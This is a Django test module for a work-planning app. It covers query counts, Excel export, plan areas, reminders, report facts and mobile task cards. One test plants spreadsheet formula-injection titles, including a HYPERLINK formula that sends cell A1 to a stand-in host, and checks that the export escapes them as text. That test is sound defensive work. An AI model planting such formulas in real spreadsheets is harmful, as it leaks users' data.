"""The decomposition table and its export, areas, the workbench, reminders and the facts for reports."""

from __future__ import annotations

import datetime
import io
import itertools

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from chuxin.audit.models import AuditEntry
from chuxin.core.access import standings
from chuxin.plans import reminders, selectors, services
from chuxin.plans.models import DEFAULT_AREAS, Plan, PlanArea, PlanItem, Task
from chuxin.records.models import WorkRecord
from chuxin.records.selectors import period_facts as record_facts

from .conftest import DUE, START

_n = itertools.count()


def seed_tasks(world, plan, departments, count: int) -> None:
    """Tasks spread over items in two areas, each with three people and a department (which the table must not
    fetch row by row)."""
    areas = list(plan.organization.plan_areas.order_by("order")[:2])
    for _ in range(count):
        i = next(_n)
        item = services.plan_item_create(actor=world.secretary, plan=plan, area=areas[i % 2], title=f"事项{i}")
        services.task_create(
            actor=world.secretary, plan_item=item, title=f"任务{i}", department=departments[i % 2],
            start_on=START, due_on=DUE, lead=world.secretary, responsible=world.committee,
            cooperating=[world.member_user],
        )


# The plan page: 1 session, 2 user, 3 role grants, 4 the user's member file (standings), 5 the plan with its
# organization and owner, 6 items with their areas, 7 their tasks with departments, 8 the tasks' assignments
# with their people.
PLAN_PAGE = 8


def test_plan_detail_query_count_does_not_grow(world, plan, departments, sent, client, django_assert_num_queries):
    client.force_login(world.secretary)
    seed_tasks(world, plan, departments, 2)
    with django_assert_num_queries(PLAN_PAGE):
        small = client.get(reverse("plans:detail", args=[plan.pk]))
    seed_tasks(world, plan, departments, 25)
    with django_assert_num_queries(PLAN_PAGE):
        large = client.get(reverse("plans:detail", args=[plan.pk]))
    assert small.context["counts"]["tasks"] == 2 and large.context["counts"]["tasks"] == 27


def test_plan_export_query_count_does_not_grow(world, plan, departments, sent, client, django_assert_num_queries):
    client.force_login(world.committee)
    seed_tasks(world, plan, departments, 2)
    with django_assert_num_queries(PLAN_PAGE):  # the same reads as the page
        client.get(reverse("plans:export", args=[plan.pk]))
    seed_tasks(world, plan, departments, 20)
    with django_assert_num_queries(PLAN_PAGE):
        client.get(reverse("plans:export", args=[plan.pk]))


def test_plan_list_query_count_does_not_grow(world, client, django_assert_num_queries):
    # 1 session, 2 user, 3 grants, 4 member file, 5 the plans with organizations and owners, 6 the years,
    # 7 the organizations for the "write a plan for" picker.
    client.force_login(world.worker)
    Plan.objects.create(organization=world.b1, year=2025, title="计划", owner=world.secretary)
    with django_assert_num_queries(7):
        client.get(reverse("plans:list"))
    for year in range(2000, 2010):
        Plan.objects.create(organization=world.b2, year=year, title="计划", owner=world.outsider)
    with django_assert_num_queries(7):
        response = client.get(reverse("plans:list"))
    assert len(response.context["plans"]) == 11


def test_task_page_query_count_does_not_grow(world, task, sent, client, django_assert_num_queries):
    # 1 session, 2 user, 3 grants, 4 member file, 5 the task with its plan, organization, owner, area and
    # department, 6 its assignments with people, 7 the progress history with authors, 8 the milestones, 9 the
    # workbench's probe, which finds nothing open for this plain member, 10 the unread notifications: both counts
    # drawn in, not asked for by a second request after the page loads (chuxin.workbench.selectors._nothing_open).
    client.force_login(world.member_user)
    with django_assert_num_queries(11):
        client.get(reverse("plans:task", args=[task.pk]))
    for i in range(10):
        services.progress_update(actor=world.committee, task=task, progress=i, note="进展",
                                 expected_version=task.version)
        services.milestone_create(actor=world.secretary, task=task, title=f"节点{i}", due_on=DUE)
    # The milestones are the member's open work now (they are on the task): the probe finds them and the count
    # is left to the badge's request after the page loads, as for anyone with work: 9 and the probe.
    with django_assert_num_queries(10):
        client.get(reverse("plans:task", args=[task.pk]))


def test_the_export_has_one_row_per_task_with_people_and_state(world, plan, item, departments, sent, client,
                                                                monkeypatch):
    monkeypatch.setattr("django.utils.timezone.localdate", lambda *a, **k: datetime.date(2026, 7, 10))
    services.task_create(actor=world.secretary, plan_item=item, title="制定年度学习计划", department=departments[0],
                         start_on=START, due_on=DUE, lead=world.secretary, responsible=world.committee,
                         cooperating=[world.member_user])
    other = services.plan_item_create(actor=world.secretary, plan=plan,
                                      area=plan.organization.plan_areas.get(name="政治建设"), title="理论学习")
    services.task_create(actor=world.secretary, plan_item=other, title="集中学习", start_on=START,
                         due_on=datetime.date(2026, 12, 31))
    client.force_login(world.viewer)  # reading is enough
    response = client.get(reverse("plans:export", args=[plan.pk]), headers={"Accept-Language": "en"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert rows[1] == ("Area", "Item", "Task", "Department", "Lead", "Responsible", "Cooperating", "Start date",
                       "Due date", "Progress (%)", "State")
    body = rows[2:]
    assert [r[:4] for r in body] == [("政治建设", "理论学习", "集中学习", None),
                                     ("组织建设", "规范落实三会一课", "制定年度学习计划", "综合办公室")]
    assert body[1][4:7] == (str(world.secretary), str(world.committee), str(world.member_user))
    assert body[1][7].date() == START and body[1][9] == 0 and body[1][10] == "overdue"
    assert body[0][10] == "not started"


def test_titles_planted_as_formulas_are_exported_as_text(world, plan, item, departments, sent, client):
    services.task_create(actor=world.secretary, plan_item=item, title="制定年度学习计划", start_on=START, due_on=DUE)
    # Written around the services' validation, as data from before the titles were checked could be.
    PlanItem.objects.filter(pk=item.pk).update(title='=HYPERLINK("http://x/?"&A1,"x")')
    Task.objects.filter(plan_item=item).update(title="@SUM(1+1)")
    Plan.objects.filter(pk=plan.pk).update(title="-计划")
    client.force_login(world.secretary)

    ws = load_workbook(io.BytesIO(client.get(reverse("plans:export", args=[plan.pk])).content)).active

    assert (ws["A1"].data_type, ws["A1"].value) == ("s", f"{plan.organization.name} · -计划")
    assert ws.freeze_panes == "A3"
    item_cell, task_cell = ws["B3"], ws["C3"]
    assert (item_cell.data_type, item_cell.value) == ("s", '\'=HYPERLINK("http://x/?"&A1,"x")')
    assert (task_cell.data_type, task_cell.value) == ("s", "'@SUM(1+1)")
    assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row)
    assert ws["H3"].is_date and ws["H3"].number_format == "yyyy-mm-dd"


def test_areas_default_then_rename_reorder_and_add(world, client):
    client.force_login(world.secretary)
    url = reverse("plans:areas", args=[world.b1.pk])
    response = client.get(url)
    assert not PlanArea.objects.filter(organization=world.b1).exists()  # opening a page writes nothing
    assert 'name="defaults"' in response.content.decode()  # the standard areas are one explicit click away
    assert client.post(url, {"defaults": "1"}).status_code == 302
    areas = list(PlanArea.objects.filter(organization=world.b1).order_by("order"))
    assert [a.name for a in areas] == list(DEFAULT_AREAS)
    assert AuditEntry.objects.filter(action=AuditEntry.Action.CREATE, organization=world.b1,
                                     actor=world.secretary, target_repr__contains=world.b1.name).count() == 1
    client.post(url, {"defaults": "1"})  # a second click adds nothing
    assert PlanArea.objects.filter(organization=world.b1).count() == len(DEFAULT_AREAS)
    response = client.get(url)
    assert 'name="defaults"' not in response.content.decode()
    formset = response.context["formset"]
    assert 'name="form-0-order"' not in response.content.decode()  # no order number to type
    data = {"form-TOTAL_FORMS": 7, "form-INITIAL_FORMS": 6, "form-MIN_NUM_FORMS": 0, "form-MAX_NUM_FORMS": 1000}
    for i, area in enumerate(areas):
        data |= {f"form-{i}-id": area.pk, f"form-{i}-name": area.name}
    data |= {"form-0-name": "党的政治建设", "form-6-name": "党风廉政建设"}
    assert formset.total_form_count() == 7
    response = client.post(url, data)
    assert response.status_code == 302

    def names():
        return list(PlanArea.objects.filter(organization=world.b1).order_by("order", "id")
                    .values_list("name", flat=True))

    assert names() == ["党的政治建设", "思想建设", "组织建设", "作风建设", "纪律建设", "制度建设", "党风廉政建设"]  # new: last
    # The up and down buttons move one area one place, keeping the names typed meanwhile.
    data = {key: value for key, value in data.items() if not key.startswith("form-6")} | {"form-TOTAL_FORMS": 6}
    data |= {"form-1-name": "思想建设（理论武装）", "move": f"{areas[0].pk}:down"}
    response = client.post(url, data)
    assert response.status_code == 302
    assert names() == ["思想建设（理论武装）", "党的政治建设", "组织建设", "作风建设", "纪律建设", "制度建设", "党风廉政建设"]
    entry = AuditEntry.objects.filter(action=AuditEntry.Action.UPDATE, organization=world.b1).latest("id")
    assert entry.changes["order"][1].startswith("思想建设（理论武装） / 党的政治建设 / ")
    client.post(url, {**data, "form-1-name": "思想建设（理论武装）", "move": f"{areas[1].pk}:up"})
    assert names()[0] == "思想建设（理论武装）" and names()[1] == "党的政治建设"  # already first: stays
    page = client.get(url).content.decode()
    assert f'name="move" value="{areas[1].pk}:up" aria-label="Move 思想建设（理论武装） up" disabled' in page
    assert not PlanArea.objects.filter(organization=world.b2).exists()  # each organization has its own


def test_an_item_cannot_use_another_organizations_area(world, plan):
    from django.core.exceptions import ValidationError

    foreign = PlanArea.objects.create(organization=world.b2, name="外部")
    with pytest.raises(ValidationError) as error:
        services.plan_item_create(actor=world.secretary, plan=plan, area=foreign, title="x")
    assert "area" in error.value.message_dict


def test_workbench_items_query_count_does_not_grow(world, plan, departments, sent, django_assert_num_queries):
    seed_tasks(world, plan, departments, 2)
    Plan.objects.filter(pk=plan.pk).update(status=Plan.Status.PUBLISHED)
    standings(world.member_user)  # loaded once per request (the navigation has them already)
    with django_assert_num_queries(2):  # my open tasks; tasks waiting for me to confirm (a plain member passes
        assert len(selectors.workbench_items(world.member_user)) == 2  # nothing on: no query for that)
    seed_tasks(world, plan, departments, 20)
    with django_assert_num_queries(2):
        assert len(selectors.workbench_items(world.member_user)) == 22


def test_workbench_shows_only_published_open_tasks(world, task, sent):
    assert selectors.workbench_items(world.member_user) == []  # a draft plan
    services.plan_publish(actor=world.secretary, plan=task.plan_item.plan)
    [item] = selectors.workbench_items(world.member_user)
    assert (item.kind, item.title, item.due, item.url) == ("task", task.title, DUE,
                                                           reverse("plans:task", args=[task.pk]))
    assert selectors.workbench_items(world.outsider) == []


def test_reminders_due_soon_to_lead_and_responsible_and_once_per_due_date(world, task, sent):
    services.plan_publish(actor=world.secretary, plan=task.plan_item.plan)
    assert reminders.due_reminders(DUE - datetime.timedelta(days=4)) == []
    found = reminders.due_reminders(DUE - datetime.timedelta(days=3))
    assert {(r.recipient.username, r.kind, r.dedup_key) for r in found} == {
        ("secretary", "due_soon", "due:2026-06-30"), ("committee", "due_soon", "due:2026-06-30")}
    # The next day gives the same keys: the notification centre stores each once.
    again = reminders.due_reminders(DUE - datetime.timedelta(days=2))
    assert {r.dedup_key for r in again} == {"due:2026-06-30"}
    # A moved deadline reminds again.
    Task.objects.filter(pk=task.pk).update(due_on=datetime.date(2026, 7, 15))
    assert {r.dedup_key for r in reminders.due_reminders(datetime.date(2026, 7, 13))} == {"due:2026-07-15"}


def test_overdue_reminders_go_to_all_assignees_and_the_owner(world, task, sent):
    from chuxin.plans.models import Plan

    services.plan_publish(actor=world.secretary, plan=task.plan_item.plan)
    Plan.objects.filter(pk=task.plan_item.plan_id).update(owner=world.worker)
    found = reminders.due_reminders(DUE + datetime.timedelta(days=1))
    assert {(r.recipient.username, r.kind) for r in found} == {
        ("secretary", "overdue"), ("committee", "overdue"), ("member", "overdue"), ("worker", "overdue")}
    services.progress_update(actor=world.committee, task=task, progress=100, expected_version=task.version)
    assert reminders.due_reminders(DUE + datetime.timedelta(days=1)) == []  # submitted: the owner's turn


def test_period_facts(world, plan, item, departments, sent):
    services.plan_publish(actor=world.secretary, plan=plan)

    def make(title, due):
        return services.task_create(actor=world.secretary, plan_item=item, title=title, start_on=START, due_on=due,
                                    responsible=world.committee)

    done_in = make("五月完成", datetime.date(2026, 5, 20))
    late = make("五月逾期", datetime.date(2026, 5, 10))
    last_day = make("月末到期", datetime.date(2026, 5, 31))  # not done by the end of the period's last day
    make("六月到期", datetime.date(2026, 6, 20))
    done_before = make("四月完成", datetime.date(2026, 4, 10))
    services.progress_update(actor=world.committee, task=done_in, progress=100, expected_version=1)
    services.task_confirm_complete(actor=world.secretary, task=done_in)
    services.progress_update(actor=world.committee, task=done_before, progress=100, expected_version=1)
    services.task_confirm_complete(actor=world.secretary, task=done_before)
    tz = timezone.get_current_timezone()
    Task.objects.filter(pk=done_in.pk).update(confirmed_at=datetime.datetime(2026, 5, 31, 23, 0, tzinfo=tz))
    Task.objects.filter(pk=done_before.pk).update(confirmed_at=datetime.datetime(2026, 4, 9, 9, 0, tzinfo=tz))
    _backdate(done_in, datetime.date(2026, 5, 31))
    _backdate(done_before, datetime.date(2026, 4, 9))
    facts = _facts(world.pc, datetime.date(2026, 5, 1), datetime.date(2026, 5, 31))
    assert facts == {"tasks_done": 1, "tasks_done_titles": ["五月完成"],
                     "tasks_overdue": 2, "tasks_overdue_titles": [late.title, last_day.title]}
    # Out of the subtree: nothing.
    assert _facts(world.b2, datetime.date(2026, 5, 1), datetime.date(2026, 5, 31))["tasks_done"] == 0


def _backdate(task, on: datetime.date) -> None:
    """As if the task had been confirmed on that day: its work record says so too."""
    WorkRecord.objects.filter(kind="task_done", target_id=str(task.pk)).update(on=on)


def _facts(organization, start, end) -> dict:
    """What a report's pre-fill reads of the plans: tasks done (work records) and tasks overdue (this app)."""
    done = {f.code: f for f in record_facts(organization, start, end)}.get("task_done")
    (overdue,) = selectors.period_facts(organization, start, end)
    return {"tasks_done": done.count if done else 0, "tasks_done_titles": done.items if done else [],
            "tasks_overdue": overdue.count, "tasks_overdue_titles": overdue.items}


def test_period_facts_leave_out_the_tasks_of_a_draft_plan(world, plan, item, sent):
    """A draft plan's tasks are not yet real work: neither done nor overdue until the plan is published."""
    task = services.task_create(actor=world.secretary, plan_item=item, title="草稿任务", start_on=START,
                                due_on=datetime.date(2026, 5, 10), responsible=world.committee)
    services.progress_update(actor=world.committee, task=task, progress=100, expected_version=1)
    services.task_confirm_complete(actor=world.secretary, task=task)
    Task.objects.filter(pk=task.pk).update(confirmed_at=datetime.datetime(2026, 5, 9, 9, 0,
                                                                          tzinfo=timezone.get_current_timezone()))
    _backdate(task, datetime.date(2026, 5, 9))
    late = services.task_create(actor=world.secretary, plan_item=item, title="草稿逾期", start_on=START,
                                due_on=datetime.date(2026, 5, 10))
    may = (datetime.date(2026, 5, 1), datetime.date(2026, 5, 31))
    assert _facts(world.pc, *may) == {"tasks_done": 0, "tasks_done_titles": [],
                                      "tasks_overdue": 0, "tasks_overdue_titles": []}
    services.plan_publish(actor=world.secretary, plan=plan)
    assert _facts(world.pc, *may) == {"tasks_done": 1, "tasks_done_titles": [task.title],
                                                      "tasks_overdue": 1, "tasks_overdue_titles": [late.title]}


# The phone cards: the same rows as the table, each with the step it asks of the person reading it.

WECHAT = "Mozilla/5.0 (iPhone) AppleWebKit/605.1.15 Mobile/15E148 MicroMessenger/8.0.50 NetType/WIFI"


def card_of(html: str, task: Task) -> str:
    start = html.index(f'data-testid="task-card" data-task="{task.pk}"')
    return html[start:html.index("</li>", start)]


def next_step_of(client, task: Task) -> str:
    import re

    card = card_of(client.get(reverse("plans:detail", args=[task.plan_item.plan_id])).content.decode(), task)
    return re.search(r'data-testid="next-action">(?:<i[^>]*></i> )?([^<]+)</a>', card)[1].strip()


def test_a_task_card_shows_its_state_people_due_date_and_the_readers_next_step(world, task, sent, client):
    client.force_login(world.committee)  # the responsible one: reporting progress is theirs
    html = client.get(reverse("plans:detail", args=[task.plan_item.plan_id])).content.decode()
    card = card_of(html, task)
    assert task.title in card and f'data-state="{task.state}">{task.state_label}</span>' in card
    assert "Due: 2026-06-30" in card and f"Responsible: {world.committee}" in card
    assert f"Lead: {world.secretary}" in card and f"Cooperating: {world.member_user}" in card
    assert next_step_of(client, task) == "Record progress"
    client.force_login(world.viewer)  # reads the plan from above: nothing to do but look
    assert next_step_of(client, task) == "View"

    services.progress_update(actor=world.committee, task=task, progress=100, note="完成", expected_version=task.version)
    client.force_login(world.secretary)  # the plan's owner confirms
    assert next_step_of(client, task) == "Confirm completion"
    client.force_login(world.committee)  # submitted: nothing more to report
    assert next_step_of(client, task) == "View"


def test_the_export_button_says_how_to_download_inside_wechat(world, plan, client):
    client.force_login(world.secretary)
    url = reverse("plans:detail", args=[plan.pk])
    assert 'data-testid="wechat-hint"' in client.get(url, HTTP_USER_AGENT=WECHAT).content.decode()
    assert 'data-testid="wechat-hint"' not in client.get(url, HTTP_USER_AGENT="Mozilla/5.0 (iPhone) Safari").content.decode()


@pytest.mark.parametrize("page", ["areas", "item-create"])
def test_opening_a_plan_page_writes_nothing(world, client, page):
    plan = Plan.objects.create(organization=world.b2, year=2026, title="计划", owner=world.outsider)
    client.force_login(world.outsider)
    url = reverse("plans:areas", args=[world.b2.pk]) if page == "areas" else reverse("plans:item-create",
                                                                                      args=[plan.pk])
    assert client.get(url).status_code == 200
    assert not PlanArea.objects.filter(organization=world.b2).exists()


def test_a_new_plan_brings_the_standard_areas(world, client):
    client.force_login(world.outsider)
    response = client.post(reverse("plans:create", args=[world.b2.pk]),
                           {"year": 2026, "title": "年度计划", "owner": world.outsider.pk})
    assert response.status_code == 302
    assert [a.name for a in PlanArea.objects.filter(organization=world.b2).order_by("order")] == list(DEFAULT_AREAS)
